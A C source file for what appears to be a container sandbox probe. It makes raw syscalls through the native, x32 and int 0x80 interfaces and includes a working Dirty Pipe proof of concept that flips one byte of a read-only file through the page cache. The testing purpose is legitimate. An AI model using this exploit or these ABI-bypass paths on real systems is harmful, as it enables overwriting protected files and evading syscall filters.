// What shells cannot do: calls by every interface of an x86-64 kernel, and writes through the page cache. One program, linked statically, put into containers.
// usage: attacks call native|x32|int80 NUMBER [ARGUMENT…]   → what the call returned, as a number (an errno is negative)
//        attacks socketcall FAMILY TYPE PROTOCOL            → the same for i386's socketcall(SYS_SOCKET)
//        attacks dirtypipe FILE                             → "written" or "unchanged"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#ifdef __x86_64__
static long int80(long number, long a, long b, long c, long d, long e)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static long native(long number, long a, long b, long c, long d, long e)
{
    long result;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "memory", "rcx", "r11");
    return result;
}
#endif

static int dirty_pipe(const char *path)
{
    int file = open(path, O_RDONLY), ends[2];
    char before, after, junk[4096];
    if (file < 0 || pread(file, &before, 1, 1) != 1 || pipe(ends) != 0)
        return perror(path), 2;
    // Fill and drain, so that every buffer of the pipe carries the flag that lets writes be merged into it.
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    memset(junk, 'x', sizeof junk);
    for (int left = size; left > 0; left -= sizeof junk)
        if (write(ends[1], junk, sizeof junk) != sizeof junk)
            return perror("fill"), 2;
    for (int left = size; left > 0; left -= sizeof junk)
        if (read(ends[0], junk, sizeof junk) != sizeof junk)
            return perror("drain"), 2;
    loff_t offset = 0;
    if (splice(file, &offset, ends[1], NULL, 1, 0) != 1)
        return perror("splice"), 2;
    char evil = before ^ 1;
    if (write(ends[1], &evil, 1) != 1)
        return perror("write"), 2;
    if (pread(file, &after, 1, 1) != 1)
        return perror("read"), 2;
    puts(after == before ? "unchanged" : "written");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "dirtypipe") == 0)
        return dirty_pipe(argv[2]);
#ifdef __x86_64__
    if (argc == 5 && strcmp(argv[1], "socketcall") == 0) {
        unsigned *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (low == MAP_FAILED)
            return perror("mmap"), 2;
        for (int i = 0; i < 3; i++)
            low[i] = (unsigned)atoi(argv[2 + i]);
        return printf("%ld\n", int80(102, 1, (long)low, 0, 0, 0)), 0;
    }
    if (argc >= 4 && strcmp(argv[1], "call") == 0) {
        long a[5] = { 0 }, number = strtol(argv[3], NULL, 0);
        for (int i = 4; i < argc && i < 9; i++)
            a[i - 4] = strtol(argv[i], NULL, 0);
        if (strcmp(argv[2], "int80") == 0)
            return printf("%ld\n", int80(number, a[0], a[1], a[2], a[3], a[4])), 0;
        return printf("%ld\n", native(strcmp(argv[2], "x32") == 0 ? number | 0x40000000 : number, a[0], a[1], a[2], a[3], a[4])), 0;
    }
#endif
    fprintf(stderr, "usage: attacks call|socketcall|dirtypipe …\n");
    return 2;
}
